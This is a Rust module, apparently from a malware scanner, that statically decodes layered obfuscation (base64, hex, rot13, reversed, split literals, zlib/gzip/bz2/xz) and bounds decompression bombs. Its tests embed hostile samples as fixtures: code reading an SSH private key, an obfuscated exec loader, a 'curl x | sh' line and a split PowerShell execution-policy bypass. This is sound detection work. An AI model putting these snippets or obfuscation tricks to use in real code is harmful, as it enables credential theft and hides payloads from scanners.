//! Static unwrapping of payload layers: base64 (standard and URL-safe), hex, `\xNN` escapes,
//! character-code lists, rot13 and reversed strings, and zlib/gzip/bz2/xz/lzma behind them —
//! without running anything. Each decoded layer is scanned with the same rules as the file.
//!
//! Candidates are found by a byte loop (runs of the base64 alphabet, joined across split string
//! literals), not by regular expressions. Every step is bounded: depth, bytes per layer, bytes
//! per file; a limit that is hit is reported, never silently ignored.

use std::io::{Read, Write};

use base64::Engine as _;
use base64::engine::{DecodePaddingMode, GeneralPurpose, GeneralPurposeConfig};

/// One decoding step.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord)]
pub enum Codec {
    /// Standard base64.
    Base64,
    /// URL-safe base64 (`-` and `_`).
    Base64Url,
    /// Hexadecimal digits.
    Hex,
    /// `\xNN` escapes in a string literal.
    HexEscapes,
    /// A list of character codes (`chr(105)`, `bytes([105, …])`).
    CharCodes,
    /// rot13.
    Rot13,
    /// A reversed string (`s[::-1]`).
    Reversed,
    /// A list of short string literals joined (`"".join(["power", "shell", …])`).
    Joined,
    /// zlib stream.
    Zlib,
    /// gzip member.
    Gzip,
    /// bzip2 stream.
    Bz2,
    /// xz container.
    Xz,
    /// Legacy `.lzma` ("alone") stream.
    Lzma,
}

impl Codec {
    /// The name shown in a finding's chain.
    pub fn as_str(self) -> &'static str {
        match self {
            Codec::Base64 => "base64",
            Codec::Base64Url => "base64url",
            Codec::Hex => "hex",
            Codec::HexEscapes => "hex-escapes",
            Codec::CharCodes => "char-codes",
            Codec::Rot13 => "rot13",
            Codec::Reversed => "reversed",
            Codec::Joined => "joined-literals",
            Codec::Zlib => "zlib",
            Codec::Gzip => "gzip",
            Codec::Bz2 => "bz2",
            Codec::Xz => "xz",
            Codec::Lzma => "lzma",
        }
    }
}

/// Bounds on decoding one file.
#[derive(Debug, Clone, Copy)]
pub struct Limits {
    /// Layers below the file (the file itself is depth 0).
    pub max_depth: usize,
    /// Largest output of one decoding step (also bounds decompression bombs).
    pub max_layer_bytes: usize,
    /// Total decoded bytes for one file.
    pub max_total_bytes: usize,
    /// Shortest encoded run worth decoding.
    pub min_run: usize,
}

impl Default for Limits {
    fn default() -> Self {
        Limits {
            max_depth: 4,
            max_layer_bytes: 8 << 20,
            max_total_bytes: 32 << 20,
            min_run: 32,
        }
    }
}

/// A decoded layer.
#[derive(Debug, Clone)]
pub struct Layer {
    /// The steps from the file to this layer, outermost first.
    pub chain: Vec<Codec>,
    /// The decoded bytes.
    pub bytes: Vec<u8>,
    /// Byte offset in the original file of the encoded text this layer came from.
    pub origin: usize,
}

/// A limit that stopped decoding somewhere in a file.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum LimitHit {
    /// Layers nested deeper than `max_depth`.
    Depth(usize),
    /// One step would have produced more than `max_layer_bytes` (a decompression bomb, or a
    /// very large payload).
    LayerSize(usize),
    /// The file's decoded layers reached `max_total_bytes`.
    TotalSize(usize),
}

impl std::fmt::Display for LimitHit {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        match self {
            LimitHit::Depth(n) => write!(
                f,
                "encoded layers nest deeper than {n}: the innermost were not decoded"
            ),
            LimitHit::LayerSize(n) => write!(
                f,
                "a decoded layer exceeds {n} bytes: only its head was scanned"
            ),
            LimitHit::TotalSize(n) => write!(
                f,
                "decoded layers exceed {n} bytes in total: the rest were not decoded"
            ),
        }
    }
}

/// Everything decoded from one file.
#[derive(Debug, Default)]
pub struct Decoded {
    /// Layers, in the order found (parents before children).
    pub layers: Vec<Layer>,
    /// Limits hit (each kind once).
    pub limits: Vec<LimitHit>,
}

/// The alphabet of both base64 flavours, with padding.
const B64: [bool; 256] = {
    let mut t = [false; 256];
    let mut i = 0;
    while i < 256 {
        let c = i as u8;
        t[i] = c.is_ascii_alphanumeric()
            || c == b'+'
            || c == b'/'
            || c == b'-'
            || c == b'_'
            || c == b'=';
        i += 1;
    }
    t
};

/// The length of the longest run of base64 characters: the "very long encoded literal" shape,
/// measured here rather than by a rule regex (which would have no literal to anchor on).
pub fn longest_base64_run(data: &[u8]) -> usize {
    // branch-free: words and spaces alternate too often for a branch predictor
    let mut best = 0;
    let mut run = 0;
    for &b in data {
        run = (run + 1) * usize::from(B64[b as usize]);
        best = best.max(run);
    }
    best
}

/// Decodes every layer under `data`, breadth first.
pub fn unwrap(data: &[u8], limits: &Limits) -> Decoded {
    let mut out = Decoded::default();
    let mut total = 0usize;
    // (parent index or none, depth)
    let mut queue: std::collections::VecDeque<(Option<usize>, usize)> = [(None, 0)].into();
    while let Some((parent, depth)) = queue.pop_front() {
        let (bytes, chain, origin) = match parent {
            None => (data, &[][..], None),
            Some(i) => (
                &out.layers[i].bytes[..],
                &out.layers[i].chain[..],
                Some(out.layers[i].origin),
            ),
        };
        let found = candidates(bytes, limits);
        if found.is_empty() {
            continue;
        }
        if depth >= limits.max_depth {
            note(&mut out.limits, LimitHit::Depth(limits.max_depth));
            continue;
        }
        let chain = chain.to_vec();
        let mut new = Vec::new();
        for cand in found {
            let Some((steps, bytes)) = decode_candidate(&cand, limits, &mut out.limits) else {
                continue;
            };
            if total + bytes.len() > limits.max_total_bytes {
                note(&mut out.limits, LimitHit::TotalSize(limits.max_total_bytes));
                break;
            }
            total += bytes.len();
            let mut full = chain.clone();
            full.extend(steps);
            new.push(Layer {
                chain: full,
                bytes,
                origin: origin.unwrap_or(cand.offset),
            });
        }
        for layer in new {
            out.layers.push(layer);
            queue.push_back((Some(out.layers.len() - 1), depth + 1));
        }
    }
    out
}

fn note(limits: &mut Vec<LimitHit>, hit: LimitHit) {
    if !limits.contains(&hit) {
        limits.push(hit);
    }
}

/// Encoded text found in a layer, before decoding.
#[derive(Debug)]
struct Candidate {
    offset: usize,
    kind: CandidateKind,
    text: Vec<u8>,
}

#[derive(Debug, PartialEq, Eq)]
enum CandidateKind {
    /// A base64-alphabet run (maybe hex), joined across split literals.
    Run { reversed_hint: bool },
    /// Bytes decoded from `\xNN` escapes.
    Escapes,
    /// Bytes from a list of character codes.
    Codes,
    /// A string literal to rot13.
    Rot13,
    /// Short literals of a list, joined.
    Joined,
}

fn candidates(data: &[u8], limits: &Limits) -> Vec<Candidate> {
    let mut out = Vec::new();
    runs(data, limits.min_run, &mut out);
    escapes(data, &mut out);
    if contains(data, b"chr") || contains(data, b"bytes(") || contains(data, b"bytearray(") {
        char_codes(data, &mut out);
    }
    if contains(data, b"rot13") || contains(data, b"rot_13") {
        rot13_literals(data, &mut out);
    }
    if contains(data, b".join(") {
        joined_literals(data, &mut out);
    }
    out
}

fn contains(hay: &[u8], needle: &[u8]) -> bool {
    memchr::memmem::find(hay, needle).is_some()
}

/// Runs of base64 characters at least `min` long; a run that ends a string literal and is
/// continued by another literal after `+`, whitespace, a backslash-newline or parentheses is
/// joined with it (`'aW1w' 'b3J0'`, `"aW1w" + \n "b3J0"`).
fn runs(data: &[u8], min: usize, out: &mut Vec<Candidate>) {
    let mut segments: Vec<(usize, usize)> = Vec::new();
    let mut i = 0;
    while i < data.len() {
        if !B64[data[i] as usize] {
            i += 1;
            continue;
        }
        let start = i;
        segments.clear();
        let mut total = 0;
        loop {
            let s = i;
            while i < data.len() && B64[data[i] as usize] {
                i += 1;
            }
            segments.push((s, i));
            total += i - s;
            // a continuation starts with the quote that closes this literal
            if !matches!(data.get(i), Some(b'\'' | b'"')) {
                break;
            }
            // then quotes and joiners only, then more alphabet
            let mut j = i;
            let mut quotes = 0;
            while j < data.len() && j - i < 64 {
                match data[j] {
                    b'\'' | b'"' => quotes += 1,
                    b' ' | b'\t' | b'\r' | b'\n' | b'+' | b'\\' | b'(' | b')' => {}
                    _ => break,
                }
                j += 1;
            }
            if quotes >= 2 && j < data.len() && B64[data[j] as usize] {
                i = j;
                continue;
            }
            break;
        }
        if total >= min {
            let end = i;
            let reversed_hint = [&b"'[::-1]"[..], b"\"[::-1]", b"[::-1]"]
                .iter()
                .any(|p| data[end..].starts_with(p));
            let mut text = Vec::with_capacity(total);
            for &(s, e) in &segments {
                text.extend_from_slice(&data[s..e]);
            }
            out.push(Candidate {
                offset: start,
                kind: CandidateKind::Run { reversed_hint },
                text,
            });
        }
    }
}

/// Runs of at least 16 `\xNN` escapes, decoded.
fn escapes(data: &[u8], out: &mut Vec<Candidate>) {
    let finder = memchr::memmem::Finder::new(b"\\x");
    let mut i = 0;
    while let Some(at) = finder.find(&data[i..]) {
        i += at;
        let start = i;
        let mut bytes = Vec::new();
        while i + 4 <= data.len() && data[i] == b'\\' && data[i + 1] == b'x' {
            match (hex_val(data[i + 2]), hex_val(data[i + 3])) {
                (Some(h), Some(l)) => bytes.push(h << 4 | l),
                _ => break,
            }
            i += 4;
        }
        if bytes.len() >= 16 {
            out.push(Candidate {
                offset: start,
                kind: CandidateKind::Escapes,
                text: bytes,
            });
        }
        i = i.max(start + 1);
        if i + 4 > data.len() {
            break;
        }
    }
}

/// Lists of at least 16 integers that are all printable character codes: `[105, 109, …]`,
/// `chr(105)+chr(109)`.
fn char_codes(data: &[u8], out: &mut Vec<Candidate>) {
    let mut i = 0;
    while i < data.len() {
        if !data[i].is_ascii_digit()
            || (i > 0 && (data[i - 1].is_ascii_alphanumeric() || data[i - 1] == b'.'))
        {
            i += 1;
            continue;
        }
        let start = i;
        let mut codes = Vec::new();
        loop {
            let s = i;
            while i < data.len() && data[i].is_ascii_digit() && i - s < 4 {
                i += 1;
            }
            let Some(v) = std::str::from_utf8(&data[s..i])
                .ok()
                .and_then(|t| t.parse::<u32>().ok())
            else {
                break;
            };
            if !(v == 9 || v == 10 || v == 13 || (32..127).contains(&v)) {
                break;
            }
            codes.push(v as u8);
            // separators: `, ` or `)+chr(` or `) + chr(`
            let mut j = i;
            while j < data.len()
                && matches!(
                    data[j],
                    b',' | b' ' | b'\n' | b'\t' | b')' | b'+' | b'(' | b'c' | b'h' | b'r'
                )
                && j - i < 12
            {
                j += 1;
            }
            if j < data.len() && j > i && data[j].is_ascii_digit() {
                i = j;
                continue;
            }
            break;
        }
        if codes.len() >= 16 {
            out.push(Candidate {
                offset: start,
                kind: CandidateKind::Codes,
                text: codes,
            });
        }
        i = i.max(start + 1);
    }
}

/// String literals of at least 24 characters, for files that mention rot13.
fn rot13_literals(data: &[u8], out: &mut Vec<Candidate>) {
    let mut i = 0;
    while i < data.len() {
        let q = data[i];
        if q != b'\'' && q != b'"' {
            i += 1;
            continue;
        }
        let start = i + 1;
        let mut j = start;
        while j < data.len() && data[j] != q && data[j] != b'\n' {
            j += 1;
        }
        if j < data.len() && data[j] == q && j - start >= 24 {
            out.push(Candidate {
                offset: start,
                kind: CandidateKind::Rot13,
                text: data[start..j].to_vec(),
            });
        }
        i = j + 1;
    }
}

/// Lists of at least four short string literals cut mid-word (`["power", "shell", " -NoL",
/// …]`), their contents joined, for files that call `.join(`: a command cut into pieces no
/// pattern sees. Lists of names (`__all__`) are not cut: most of their pieces hold no space or
/// punctuation.
fn joined_literals(data: &[u8], out: &mut Vec<Candidate>) {
    let skip_space = |mut j: usize| {
        while j < data.len() && data[j].is_ascii_whitespace() {
            j += 1;
        }
        j
    };
    let mut i = 0;
    while let Some(at) = memchr::memchr(b'[', &data[i..]) {
        let start = i + at;
        let mut j = skip_space(start + 1);
        let mut text = Vec::new();
        let mut pieces = 0;
        let mut cut = 0;
        while let Some(&q) = data.get(j).filter(|&&q| q == b'\'' || q == b'"') {
            let body = j + 1;
            // to the closing quote, stepping over escapes (`"ommand \""`)
            let mut end = body;
            while end < data.len() && end - body <= 80 && data[end] != q && data[end] != b'\n' {
                end += if data[end] == b'\\' { 2 } else { 1 };
            }
            if data.get(end) != Some(&q) {
                break;
            }
            let len = end - body;
            let piece = &data[body..end];
            if piece
                .iter()
                .any(|&b| b == b' ' || b == b'-' || b == b'/' || b == b':' || b == b'.')
            {
                cut += 1;
            }
            text.extend_from_slice(piece);
            pieces += 1;
            j = skip_space(body + len + 1);
            match data.get(j) {
                Some(b',') => j = skip_space(j + 1),
                _ => break,
            }
        }
        if pieces >= 4
            && text.len() >= 16
            && text.len() <= pieces * 16
            && cut * 3 >= pieces
            && data.get(j) == Some(&b']')
        {
            out.push(Candidate {
                offset: start,
                kind: CandidateKind::Joined,
                text,
            });
        }
        i = start + 1;
    }
}

fn hex_val(b: u8) -> Option<u8> {
    match b {
        b'0'..=b'9' => Some(b - b'0'),
        b'a'..=b'f' => Some(b - b'a' + 10),
        b'A'..=b'F' => Some(b - b'A' + 10),
        _ => None,
    }
}

fn decode_candidate(
    cand: &Candidate,
    limits: &Limits,
    hits: &mut Vec<LimitHit>,
) -> Option<(Vec<Codec>, Vec<u8>)> {
    let (first, bytes): (Vec<Codec>, Vec<u8>) = match cand.kind {
        CandidateKind::Escapes => (vec![Codec::HexEscapes], cand.text.clone()),
        CandidateKind::Codes => (vec![Codec::CharCodes], cand.text.clone()),
        CandidateKind::Rot13 => (vec![Codec::Rot13], rot13(&cand.text)),
        CandidateKind::Joined => (vec![Codec::Joined], cand.text.clone()),
        CandidateKind::Run { reversed_hint } => {
            // the direction a `[::-1]` points to first; the other only when it yields nothing
            let mut attempt = |reversed: bool| {
                if !reversed {
                    return decode_run(&cand.text, limits, hits);
                }
                let mut r = cand.text.clone();
                r.reverse();
                decode_run(&r, limits, hits).map(|(mut c, b)| {
                    c.insert(0, Codec::Reversed);
                    (c, b)
                })
            };
            return attempt(reversed_hint).or_else(|| attempt(!reversed_hint));
        }
    };
    let (more, bytes) = inflate(bytes, limits, hits);
    let mut chain = first;
    chain.extend(more);
    meaningful(&bytes).then_some((chain, bytes))
}

/// Hex or base64, then decompression; `None` unless the result looks like code or text.
fn decode_run(
    text: &[u8],
    limits: &Limits,
    hits: &mut Vec<LimitHit>,
) -> Option<(Vec<Codec>, Vec<u8>)> {
    let trimmed: &[u8] = {
        let mut t = text;
        while let [rest @ .., b'='] = t {
            t = rest;
        }
        t
    };
    let is_hex = trimmed.len().is_multiple_of(2) && trimmed.iter().all(u8::is_ascii_hexdigit);
    let (codec, raw) = if is_hex {
        let raw: Vec<u8> = trimmed
            .chunks(2)
            .filter_map(|p| Some(hex_val(p[0])? << 4 | hex_val(p[1])?))
            .collect();
        (Codec::Hex, raw)
    } else {
        let url = trimmed.iter().any(|&b| b == b'-' || b == b'_');
        let std = trimmed.iter().any(|&b| b == b'+' || b == b'/');
        if url && std {
            return None;
        }
        // a lone trailing character carries no whole byte
        let len = if trimmed.len() % 4 == 1 {
            trimmed.len() - 1
        } else {
            trimmed.len()
        };
        let engine = if url { &URL_SAFE } else { &STANDARD };
        let raw = engine.decode(&trimmed[..len]).ok()?;
        (if url { Codec::Base64Url } else { Codec::Base64 }, raw)
    };
    if raw.len() > limits.max_layer_bytes {
        note(hits, LimitHit::LayerSize(limits.max_layer_bytes));
        return None;
    }
    let (more, bytes) = inflate(raw, limits, hits);
    if !meaningful(&bytes) {
        return None;
    }
    let mut chain = vec![codec];
    chain.extend(more);
    Some((chain, bytes))
}

const LENIENT: GeneralPurposeConfig = GeneralPurposeConfig::new()
    .with_decode_padding_mode(DecodePaddingMode::Indifferent)
    .with_decode_allow_trailing_bits(true);
static STANDARD: GeneralPurpose = GeneralPurpose::new(&base64::alphabet::STANDARD, LENIENT);
static URL_SAFE: GeneralPurpose = GeneralPurpose::new(&base64::alphabet::URL_SAFE, LENIENT);

/// Decompresses while the bytes start with a compression format's magic, at most twice.
fn inflate(mut bytes: Vec<u8>, limits: &Limits, hits: &mut Vec<LimitHit>) -> (Vec<Codec>, Vec<u8>) {
    let mut chain = Vec::new();
    for _ in 0..2 {
        let Some(codec) = compression(&bytes) else {
            break;
        };
        let cap = limits.max_layer_bytes;
        let mut out = Vec::new();
        let ok = match codec {
            Codec::Zlib => read_capped(flate2::read::ZlibDecoder::new(&bytes[..]), cap, &mut out),
            Codec::Gzip => read_capped(flate2::read::GzDecoder::new(&bytes[..]), cap, &mut out),
            Codec::Bz2 => read_capped(bzip2::read::BzDecoder::new(&bytes[..]), cap, &mut out),
            Codec::Xz => lzma_capped(&bytes, cap, &mut out, true),
            _ => lzma_capped(&bytes, cap, &mut out, false),
        };
        if out.len() >= cap {
            note(hits, LimitHit::LayerSize(cap));
        }
        if !ok && out.is_empty() {
            break;
        }
        chain.push(codec);
        bytes = out;
    }
    (chain, bytes)
}

fn compression(b: &[u8]) -> Option<Codec> {
    match b {
        [0x78, 0x01 | 0x5e | 0x9c | 0xda, ..] => Some(Codec::Zlib),
        [0x1f, 0x8b, 0x08, ..] => Some(Codec::Gzip),
        [b'B', b'Z', b'h', b'1'..=b'9', ..] => Some(Codec::Bz2),
        [0xfd, b'7', b'z', b'X', b'Z', 0x00, ..] => Some(Codec::Xz),
        [0x5d, 0x00, 0x00, _, _, 0xff | 0x00, ..] => Some(Codec::Lzma),
        _ => None,
    }
}

/// Reads at most `cap` bytes; a truncated stream still yields what was decoded.
fn read_capped(r: impl Read, cap: usize, out: &mut Vec<u8>) -> bool {
    r.take(cap as u64).read_to_end(out).is_ok()
}

/// A writer that refuses to grow past its cap, so lzma-rs stops on a bomb.
struct Capped<'a> {
    out: &'a mut Vec<u8>,
    cap: usize,
}

impl Write for Capped<'_> {
    fn write(&mut self, buf: &[u8]) -> std::io::Result<usize> {
        let room = self.cap - self.out.len();
        if room == 0 {
            return Err(std::io::Error::other("layer size cap"));
        }
        let n = buf.len().min(room);
        self.out.extend_from_slice(&buf[..n]);
        Ok(n)
    }
    fn flush(&mut self) -> std::io::Result<()> {
        Ok(())
    }
}

fn lzma_capped(input: &[u8], cap: usize, out: &mut Vec<u8>, xz: bool) -> bool {
    let mut reader = std::io::BufReader::new(input);
    let mut w = Capped { out, cap };
    if xz {
        lzma_rs::xz_decompress(&mut reader, &mut w).is_ok()
    } else {
        lzma_rs::lzma_decompress(&mut reader, &mut w).is_ok()
    }
}

fn rot13(text: &[u8]) -> Vec<u8> {
    text.iter()
        .map(|&c| match c {
            b'a'..=b'z' => (c - b'a' + 13) % 26 + b'a',
            b'A'..=b'Z' => (c - b'A' + 13) % 26 + b'A',
            c => c,
        })
        .collect()
}

/// Whether decoded bytes are worth scanning: mostly printable text (code, shell, config), or
/// marshalled Python code (whose names and constants are visible as bytes).
fn meaningful(b: &[u8]) -> bool {
    if b.len() < 8 {
        return false;
    }
    if b[0] == 0xe3 && b.len() > 16 {
        return true;
    }
    let sample = &b[..b.len().min(4096)];
    let text = std::str::from_utf8(sample)
        .unwrap_or_else(|e| std::str::from_utf8(&sample[..e.valid_up_to()]).unwrap_or(""));
    if text.len() * 10 < sample.len() * 9 {
        return false;
    }
    let printable = text
        .chars()
        .filter(|c| !c.is_control() || matches!(c, '\n' | '\r' | '\t'))
        .count();
    let letters = text.chars().filter(|c| c.is_alphabetic()).count();
    printable * 100 >= text.chars().count() * 95 && letters * 4 >= text.chars().count()
}

#[cfg(test)]
mod tests {
    use super::*;
    use base64::engine::general_purpose::{STANDARD as B64STD, URL_SAFE_NO_PAD};

    const CODE: &str = "import os\nopen(os.path.expanduser('~/.ssh/id_rsa')).read()\n";

    fn chains(data: &[u8]) -> Vec<String> {
        unwrap(data, &Limits::default())
            .layers
            .iter()
            .map(|l| {
                l.chain
                    .iter()
                    .map(|c| c.as_str())
                    .collect::<Vec<_>>()
                    .join(" → ")
            })
            .collect()
    }

    fn zlib(b: &[u8]) -> Vec<u8> {
        let mut e = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::default());
        e.write_all(b).unwrap();
        e.finish().unwrap()
    }

    #[test]
    fn base64_and_zlib_layers_unwrap_with_their_chain() {
        let src = format!(
            "exec(zlib.decompress(base64.b64decode('{}')))",
            B64STD.encode(zlib(CODE.as_bytes()))
        );
        let d = unwrap(src.as_bytes(), &Limits::default());
        assert_eq!(d.layers.len(), 1);
        assert_eq!(d.layers[0].chain, [Codec::Base64, Codec::Zlib]);
        assert_eq!(d.layers[0].bytes, CODE.as_bytes());
        assert_eq!(d.layers[0].origin, src.find("eJ").unwrap());
    }

    #[test]
    fn nested_urlsafe_hex_reversed_and_split_literals() {
        // `???` encodes to `Pz8_` in the URL-safe alphabet
        let inner = format!("#???\nexec(base64.b64decode('{}'))", B64STD.encode(CODE));
        let outer = format!("x = '{}'", URL_SAFE_NO_PAD.encode(inner.as_bytes()));
        assert_eq!(
            chains(outer.as_bytes()),
            ["base64url", "base64url → base64"]
        );

        let hex: String = CODE.bytes().map(|b| format!("{b:02x}")).collect();
        assert_eq!(
            chains(format!("exec(bytes.fromhex('{hex}'))").as_bytes()),
            ["hex"]
        );

        let rev: String = B64STD.encode(CODE).chars().rev().collect();
        assert_eq!(
            chains(format!("s = '{rev}'[::-1]").as_bytes()),
            ["reversed → base64"]
        );

        let enc = B64STD.encode(CODE);
        let (a, b) = enc.split_at(30);
        assert_eq!(
            chains(format!("s = ('{a}'\n     '{b}')").as_bytes()),
            ["base64"]
        );
        assert_eq!(
            chains(format!("s = \"{a}\" + \"{b}\"").as_bytes()),
            ["base64"]
        );
    }

    #[test]
    fn joined_fragments_are_a_layer_and_name_lists_are_not() {
        let cut =
            br#"parts = ["power", "shell", " -NoL", "ogo -Ex", "ecutionP", "olicy By", "pass"]
cmd = "".join(parts)"#;
        let got = unwrap(cut, &Limits::default());
        assert_eq!(chains(cut), ["joined-literals"]);
        assert!(
            got.layers[0]
                .bytes
                .starts_with(b"powershell -NoLogo -ExecutionPolicy Bypass")
        );
        let names = br#"__all__ = ["alpha", "beta", "gamma", "delta", "epsilon"]
print(", ".join(__all__))"#;
        assert!(chains(names).is_empty());
    }

    #[test]
    fn escapes_char_codes_and_rot13() {
        let esc: String = CODE.bytes().map(|b| format!("\\x{b:02x}")).collect();
        assert_eq!(chains(format!("exec('{esc}')").as_bytes()), ["hex-escapes"]);
        let codes: Vec<String> = CODE.bytes().map(|b| b.to_string()).collect();
        assert_eq!(
            chains(format!("exec(''.join(chr(c) for c in [{}]))", codes.join(", ")).as_bytes()),
            ["char-codes"]
        );
        let r = String::from_utf8(rot13(b"import os; os.system(\"curl x | sh\")")).unwrap();
        assert_eq!(
            chains(format!("exec(codecs.decode('{r}', 'rot13'))").as_bytes()),
            ["rot13"]
        );
    }

    #[test]
    fn other_compressions() {
        let mut gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
        gz.write_all(CODE.as_bytes()).unwrap();
        let gz = gz.finish().unwrap();
        assert_eq!(
            chains(format!("'{}'", B64STD.encode(gz)).as_bytes()),
            ["base64 → gzip"]
        );
        let mut bz = bzip2::write::BzEncoder::new(Vec::new(), bzip2::Compression::default());
        bz.write_all(CODE.as_bytes()).unwrap();
        assert_eq!(
            chains(format!("'{}'", B64STD.encode(bz.finish().unwrap())).as_bytes()),
            ["base64 → bz2"]
        );
        let mut xz = Vec::new();
        lzma_rs::xz_compress(&mut CODE.as_bytes(), &mut xz).unwrap();
        assert_eq!(
            chains(format!("'{}'", B64STD.encode(&xz)).as_bytes()),
            ["base64 → xz"]
        );
        let mut lz = Vec::new();
        lzma_rs::lzma_compress(&mut CODE.as_bytes(), &mut lz).unwrap();
        assert_eq!(
            chains(format!("'{}'", B64STD.encode(&lz)).as_bytes()),
            ["base64 → lzma"]
        );
    }

    #[test]
    fn binary_blobs_and_identifiers_are_not_layers() {
        // a PNG header and a long identifier decode to noise
        let png = B64STD.encode([
            0x89u8, b'P', b'N', b'G', 0, 0, 0, 13, 1, 2, 3, 200, 201, 202, 203, 0, 0, 7, 9, 250,
            251, 252, 253, 254,
        ]);
        assert!(chains(format!("ICON = '{png}'").as_bytes()).is_empty());
        assert!(chains(b"def some_really_long_function_name_for_tests_only(): pass").is_empty());
    }

    #[test]
    fn bombs_and_depth_are_bounded_and_reported() {
        let bomb = zlib(&vec![b'a'; 20 << 20]);
        let limits = Limits::default();
        let d = unwrap(format!("'{}'", B64STD.encode(&bomb)).as_bytes(), &limits);
        assert!(
            d.limits
                .contains(&LimitHit::LayerSize(limits.max_layer_bytes)),
            "{:?}",
            d.limits
        );
        assert!(
            d.layers
                .iter()
                .all(|l| l.bytes.len() <= limits.max_layer_bytes)
        );

        let mut s = CODE.to_string();
        for _ in 0..6 {
            s = format!("exec(base64.b64decode('{}'))", B64STD.encode(s));
        }
        let d = unwrap(s.as_bytes(), &limits);
        assert_eq!(d.layers.len(), limits.max_depth);
        assert!(d.limits.contains(&LimitHit::Depth(limits.max_depth)));
    }

    #[test]
    fn longest_run_is_measured() {
        assert_eq!(longest_base64_run(b"ab cdef=="), 6);
        assert_eq!(longest_base64_run(b""), 0);
    }
}
